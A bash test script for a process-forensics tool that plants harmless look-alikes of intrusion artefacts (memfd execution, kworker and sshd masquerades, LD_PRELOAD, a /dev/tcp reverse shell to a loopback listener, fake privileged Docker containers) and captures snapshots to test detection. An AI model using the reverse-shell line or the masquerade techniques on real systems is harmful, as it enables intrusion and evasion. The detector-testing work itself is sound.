#!/usr/bin/env bash
# samples/scenario/run.sh - plant harmless look-alikes of intrusion artefacts on THIS machine and capture them.
#
# Usage: run.sh OUTDIR [PROCSNAP_COLLECT]
#
# 1. Starts a clean "baseline" set of processes (sleep, a bash reading a FIFO) and captures them, plus a few
#    system processes (kthreadd and kernel threads; SCENARIO_SYSTEM_PIDS overrides), with procsnap-collect
#    --pids  ->  OUTDIR/baseline.tar.zst
# 2. Plants one safe instance of each triage indicator it can (below) and captures baseline + planted processes
#    ->  OUTDIR/compromised.tar.zst
# 3. Stops everything it started, by pid, and removes its work directory (trap on EXIT/INT/TERM).
#
# Outputs next to the archives: planted.tsv (check id, evidence column, value that must appear),
# baseline-pids.txt (the scenario's own processes in the baseline), skipped.txt (indicators not planted, and why).
#
# Safety: every network socket is on loopback or inside a private network namespace (unshare -n) that has only
# a loopback device; the /proc/<pid> bind mount is made in a private mount namespace (unshare -m) and vanishes
# with it; the "injected" library does nothing; nothing outside the mktemp work directory is written. Every
# planted process also exits by itself after SCENARIO_TTL seconds (default 300) should cleanup be skipped.
#
# Indicators (check id: how)
#   exe-memfd, kthread-masquerade, exec-anon-region, name-mismatch: implant copies itself to a memfd and
#       fexecve()s as argv[0] "[kworker/0:2]", comm "kworker/0:2"
#   exe-deleted, exe-in-temp-dir, name-mismatch: a copy of implant in /tmp renames itself "cron", file deleted
#   exe-in-hidden-dir: implant copy run from <work>/.cache/updater
#   ld-preload-env, lib-from-writable-dir: sleep with LD_PRELOAD=<work>/libharmless.so
#   exec-deleted-file: sleep with a preloaded library that is then deleted
#   rwx-region, exec-anon-region, elf-in-anon-memory: implant maps one anonymous rwx page holding its own ELF
#       header (captured with --mem suspicious)
#   cmdline-into-environ: implant overwrites argv+environ with an "sshd: ..." title
#   reverse-shell: implant listens on 127.0.0.1; sh has fds 0-2 on a TCP connection to it
#   traced-process: implant PTRACE_SEIZEs its own child
#   dirty-exec-file-mapping: implant maps a copy of itself read-execute, makes the page writable, changes a byte
#       and makes it read-execute again (the copy on disk is unchanged)
#   root only: listener-unusual-path (0.0.0.0 listener inside unshare -n), raw-packet-socket (AF_PACKET on the
#       private netns's lo), proc-pid-mount (bind mount over /proc/<victim> inside unshare -m),
#       full-caps-non-root (implant keeps all capabilities while switching to uid 65534),
#       container-privileged, container-runtime-socket, container-namespace-entry, container-host-mount-ns,
#       container-host-namespace (unshare'd sleeps in cgroup v2 directories named docker-<id>.scope, a file
#       bind-mounted as .../docker.sock in one, an nsenter'd sleep; skipped where no cgroup directory can be made)
#   Not planted (not safe or not possible on a shared machine): hidden-pid and pid-mismatch (need a rootkit),
#   ld-so-preload-mapped (would affect every program), kernel-tainted (needs a module).
set -euo pipefail

OUT=${1:?usage: run.sh OUTDIR [PROCSNAP_COLLECT]}
COLLECT=${2:-${PROCSNAP_COLLECT:-procsnap-collect}}
HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
CC=${CC:-cc}
export SCENARIO_TTL=${SCENARIO_TTL:-300}

mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
WORK=$(mktemp -d /tmp/procsnap-scenario.XXXXXX)
STARTED=()   # every pid this script started (killed by cleanup)
CGROUP_DIRS=()  # cgroup directories made for the container look-alikes (removed by cleanup)

cleanup() {
  local pid
  for pid in "${STARTED[@]}"; do
    kill -KILL "$pid" 2>/dev/null || true
  done
  for pid in "${STARTED[@]}"; do
    wait "$pid" 2>/dev/null || true
  done
  local dir i
  for pid in "${STARTED[@]}"; do  # grandchildren (the container look-alikes' sleeps) cannot be waited for: poll
    for i in $(seq 50); do
      [[ -e /proc/$pid && $(awk '{print $3}' "/proc/$pid/stat" 2>/dev/null) != Z ]] || break
      sleep 0.1
    done
  done
  for dir in "${CGROUP_DIRS[@]}"; do  # empty once the killed processes are reaped (up to 5 s)
    for i in $(seq 50); do rmdir "$dir" 2>/dev/null && break; sleep 0.1; done
  done
  rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# Every scenario process gets a minimal environment (env -i ...): the archives are meant to be shared, and the
# caller's environment (tokens, paths) must not end up in proc/<pid>/environ members.
CLEAN_ENV=(env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME=/ LANG=C "SCENARIO_TTL=$SCENARIO_TTL")

# System processes captured besides the scenario's: kthreadd and its first kernel threads by default (no
# environment, nothing private); set SCENARIO_SYSTEM_PIDS (comma-separated, e.g. 1) to choose others.
if [[ -n ${SCENARIO_SYSTEM_PIDS+x} ]]; then
  IFS=, read -r -a SYSTEM_PIDS <<<"$SCENARIO_SYSTEM_PIDS"
else
  SYSTEM_PIDS=(2)
  if [[ -r /proc/2/task/2/children ]]; then
    read -r -a kids </proc/2/task/2/children || true
    SYSTEM_PIDS+=("${kids[@]:0:3}")
  fi
fi

# start CMD... : run in the background with the clean environment and remember its pid (commands exec, so the
# pid stays the process's).
start() {
  "${CLEAN_ENV[@]}" "$@" </dev/null >/dev/null 2>>"$WORK/stderr.log" &
  STARTED+=("$!")
  LAST=$!
}

# The cgroup v2 hierarchy (a pure v2 host, or a hybrid host's "unified") for the container look-alikes.
cgroup2_root() {
  if [[ -f /sys/fs/cgroup/cgroup.controllers ]]; then echo /sys/fs/cgroup
  elif [[ -f /sys/fs/cgroup/unified/cgroup.procs ]]; then echo /sys/fs/cgroup/unified
  fi
}
child_of() {  # child_of PID: its first child once it exists (up to 5 s)
  local i kid
  for i in $(seq 50); do
    read -r kid _ <"/proc/$1/task/$1/children" 2>/dev/null || true
    [[ -n ${kid:-} ]] && { echo "$kid"; return 0; }
    sleep 0.1
  done
  return 1
}
# plant_containers: sets C_INIT, C_ENTERED, C_HOSTNS and the two containers' ids C_ID1 (C_INIT's), C_ID2 (C_HOSTNS's)
# (see the call); returns 1 (and says why in skipped.txt) when no cgroup directory can be made here.
plant_containers() {
  local root id1 id2 p slice=()
  root=$(cgroup2_root)
  id1=$(od -An -N32 -tx1 /dev/urandom | tr -d ' \n'); id2=$(od -An -N32 -tx1 /dev/urandom | tr -d ' \n')
  C_ID1=$id1; C_ID2=$id2
  [[ -n $root && ! -d $root/system.slice ]] && mkdir "$root/system.slice" && slice=("$root/system.slice")
  if [[ -z $root ]] || ! mkdir "$root/system.slice/docker-$id1.scope" ||
     ! mkdir "$root/system.slice/docker-$id2.scope"; then
    for c in container-privileged container-runtime-socket container-namespace-entry container-host-mount-ns \
      container-host-namespace; do
      echo "$c: no cgroup v2 directory can be made here (${root:-no cgroup2 mount}); not planted" >>"$OUT/skipped.txt"
    done
    CGROUP_DIRS+=("${slice[@]}")
    return 1
  fi
  CGROUP_DIRS+=("$root/system.slice/docker-$id1.scope" "$root/system.slice/docker-$id2.scope" "${slice[@]}")
  mkdir -p "$WORK/ctr/run" && : >"$WORK/ctr/docker.sock" && : >"$WORK/ctr/run/docker.sock"
  # Its own pid, mount, network (only lo, down) and UTS namespaces, as a runtime gives a container.
  start unshare -p -m -n -u -f --mount-proc --propagation private sh -c \
    'mount --bind "$1/docker.sock" "$1/run/docker.sock" && exec sleep "$2"' ctr "$WORK/ctr" "$SCENARIO_TTL"
  p=$LAST; C_INIT=$(child_of "$p"); STARTED+=("$C_INIT"); PLANTED+=("$p" "$C_INIT")
  echo "$C_INIT" >"$root/system.slice/docker-$id1.scope/cgroup.procs"
  start nsenter -t "$C_INIT" -p -m sleep "$SCENARIO_TTL"
  p=$LAST; C_ENTERED=$(child_of "$p"); STARTED+=("$C_ENTERED"); PLANTED+=("$p" "$C_ENTERED")
  start unshare -p -f sleep "$SCENARIO_TTL"
  p=$LAST; C_HOSTNS=$(child_of "$p"); STARTED+=("$C_HOSTNS"); PLANTED+=("$p" "$C_HOSTNS")
  echo "$C_HOSTNS" >"$root/system.slice/docker-$id2.scope/cgroup.procs"
}

wait_file() {  # wait_file PATH: up to 5 s for a non-empty file
  local i
  for i in $(seq 50); do
    [[ -s $1 ]] && return 0
    sleep 0.1
  done
  echo "run.sh: $1 never appeared" >&2
  return 1
}

capture() {  # capture NAME NOTE PIDS...
  local name=$1 note=$2
  shift 2
  local pids
  pids=$(IFS=,; echo "$*")
  local rc=0
  # --mem suspicious: executable anonymous/deleted/memfd regions and rwx regions are captured (a few pages each);
  # --copy-exe deleted (the default) copies the memfd and deleted executables (the harmless implant).
  "$COLLECT" -o "$OUT/$name.tar.zst" --quiet --pids "$pids" --mem suspicious --case procsnap-scenario --examiner run.sh \
    --note "$note" || rc=$?
  # 3 = partial (a listed pid could not be captured, e.g. exited): still a usable archive.
  if [[ $rc -ne 0 && $rc -ne 3 ]]; then
    echo "run.sh: procsnap-collect failed ($rc)" >&2
    exit 1
  fi
}

cd "$WORK"  # the processes' cwd: nothing of the caller's tree in the archives
"$CC" -O2 -o "$WORK/implant" "$HERE/implant.c"
"$CC" -O2 -shared -fPIC -o "$WORK/libharmless.so" "$HERE/harmless.c"
: >"$OUT/planted.tsv"
: >"$OUT/skipped.txt"
plant() { printf '%s\t%s\t%s\n' "$1" "$2" "$3" >>"$OUT/planted.tsv"; }

# ---- baseline: ordinary processes only, from system binaries --------------------------------------------------
mkfifo "$WORK/fifo"
# A bash waiting for a line on a FIFO (started by hand: start() would point its stdin at /dev/null).
"${CLEAN_ENV[@]}" bash -c 'read -r line; exec sleep "$SCENARIO_TTL"' <"$WORK/fifo" >/dev/null 2>&1 &
STARTED+=("$!"); B_BASH=$!
"${CLEAN_ENV[@]}" sleep "$SCENARIO_TTL" >"$WORK/fifo" &
STARTED+=("$!"); B_WRITER=$!
start sleep "$SCENARIO_TTL"; B_SLEEP=$LAST
sleep 0.5
BASELINE=("$B_BASH" "$B_WRITER" "$B_SLEEP")
printf '%s\n' "${BASELINE[@]}" >"$OUT/baseline-pids.txt"
capture baseline "procsnap triage scenario: clean baseline" "${SYSTEM_PIDS[@]}" "${BASELINE[@]}"

# ---- the planted "intrusion" ----------------------------------------------------------------------------------
PLANTED=()

start "$WORK/implant" memfd-kworker; P=$LAST; PLANTED+=("$P")
plant exe-memfd pid "$P"; plant kthread-masquerade pid "$P"; plant exec-anon-region pid "$P"
plant name-mismatch pid "$P"

cp "$WORK/implant" "$WORK/dropper"
start "$WORK/dropper" rename cron; P=$LAST; PLANTED+=("$P")
plant exe-deleted pid "$P"; plant exe-in-temp-dir pid "$P"; plant name-mismatch pid "$P"

mkdir "$WORK/.cache"
cp "$WORK/implant" "$WORK/.cache/updater"
start "$WORK/.cache/updater" sleep; P=$LAST; PLANTED+=("$P")
plant exe-in-hidden-dir pid "$P"

start env LD_PRELOAD="$WORK/libharmless.so" sleep "$SCENARIO_TTL"; P=$LAST; PLANTED+=("$P")
plant ld-preload-env pid "$P"; plant lib-from-writable-dir pid "$P"

cp "$WORK/libharmless.so" "$WORK/libgone.so"
start env LD_PRELOAD="$WORK/libgone.so" sleep "$SCENARIO_TTL"; P=$LAST; PLANTED+=("$P")
plant exec-deleted-file pid "$P"

start "$WORK/implant" rwx; P=$LAST; PLANTED+=("$P")
plant rwx-region pid "$P"; plant exec-anon-region pid "$P"; plant elf-in-anon-memory pid "$P"

start "$WORK/implant" title "sshd: root@pts/3 [priv] .................................................."
P=$LAST; PLANTED+=("$P")
plant cmdline-into-environ pid "$P"

start "$WORK/implant" listen 127.0.0.1 "$WORK/port"; PLANTED+=("$LAST")
wait_file "$WORK/port"
PORT=$(<"$WORK/port")
# The reverse shell: sh reading its commands from a TCP connection to the local listener (which sends nothing).
"${CLEAN_ENV[@]}" bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1"; exec sh <&3 >&3 2>&3' revshell "$PORT" &
STARTED+=("$!"); P=$!; PLANTED+=("$P")
plant reverse-shell pid "$P"

start "$WORK/implant" trace "$WORK/traced"; PLANTED+=("$LAST")
wait_file "$WORK/traced"
P=$(<"$WORK/traced"); STARTED+=("$P"); PLANTED+=("$P")
plant traced-process pid "$P"

cp "$WORK/implant" "$WORK/libpatched.so"
start "$WORK/implant" patch "$WORK/libpatched.so"; P=$LAST; PLANTED+=("$P")
plant dirty-exec-file-mapping pid "$P"

if [[ $(id -u) -eq 0 ]]; then
  start unshare -n "$WORK/.cache/updater" listen 0.0.0.0 "$WORK/port2"; P=$LAST; PLANTED+=("$P")
  wait_file "$WORK/port2"
  plant listener-unusual-path pid "$P"

  start unshare -n "$WORK/implant" packet; P=$LAST; PLANTED+=("$P")
  plant raw-packet-socket pid "$P"

  start sleep "$SCENARIO_TTL"; VICTIM=$LAST; PLANTED+=("$VICTIM")
  mkdir "$WORK/empty"
  start unshare -m --propagation private sh -c 'mount --bind "$1" "/proc/$2" && exec sleep "$3"' \
    mounter "$WORK/empty" "$VICTIM" "$SCENARIO_TTL"
  PLANTED+=("$LAST")
  plant proc-pid-mount hidden_pid "$VICTIM"

  start "$WORK/implant" caps 65534; P=$LAST; PLANTED+=("$P")
  plant full-caps-non-root pid "$P"

  # Containers: a "privileged docker container" (new pid, mount, network and UTS namespaces, every capability, in
  # a cgroup directory named as Docker's systemd driver names one, with a file bind-mounted as docker.sock inside
  # it), a process that entered its namespaces with nsenter from this script's cgroup, and a second "container"
  # left in the host's mount and network namespaces.
  if plant_containers; then
    plant container-privileged pid "$C_INIT"; plant container-runtime-socket pid "$C_INIT"
    plant container-namespace-entry pid "$C_ENTERED"
    plant container-host-mount-ns pid "$C_HOSTNS"; plant container-host-namespace pid "$C_HOSTNS"
    # The containers themselves: the import must recognise both ids, as Docker's (runtime docker).
    plant container-privileged container_id "$C_ID1"; plant container-privileged runtime docker
    plant container-runtime-socket container_id "$C_ID1"; plant container-namespace-entry container_id "$C_ID1"
    plant container-host-mount-ns container_id "$C_ID2"; plant container-host-namespace container_id "$C_ID2"
  fi
else
  for c in listener-unusual-path raw-packet-socket proc-pid-mount full-caps-non-root container-privileged \
    container-runtime-socket container-namespace-entry container-host-mount-ns container-host-namespace; do
    echo "$c: needs root (unshare -n / -m / -p, CAP_NET_RAW, setresuid with kept capabilities, cgroup directories)" \
      >>"$OUT/skipped.txt"
  done
fi
cat >>"$OUT/skipped.txt" <<'EOF'
hidden-pid: needs a rootkit hiding a pid from readdir; not planted
pid-mismatch: needs a tampered /proc; not planted
ld-so-preload-mapped: /etc/ld.so.preload would affect every program on the machine; not planted
kernel-tainted: needs loading an out-of-tree module; not planted (the host's own taint shows if present)
EOF

sleep 1  # let preloads load, renames happen, connections establish
rm -f "$WORK/dropper" "$WORK/libgone.so"
sleep 0.2
capture compromised "procsnap triage scenario: planted indicators" "${SYSTEM_PIDS[@]}" "${BASELINE[@]}" \
  "${PLANTED[@]}"
printf '%s\n' "${PLANTED[@]}" >"$OUT/planted-pids.txt"
if [[ -s $WORK/stderr.log ]]; then
  echo "run.sh: messages from the planted processes:" >&2
  cat "$WORK/stderr.log" >&2
fi
echo "run.sh: wrote $OUT/baseline.tar.zst $OUT/compromised.tar.zst ($(cut -f1 "$OUT/planted.tsv" | sort -u | wc -l)" \
  "checks planted, $(wc -l <"$OUT/planted.tsv") evidence lines in planted.tsv)"
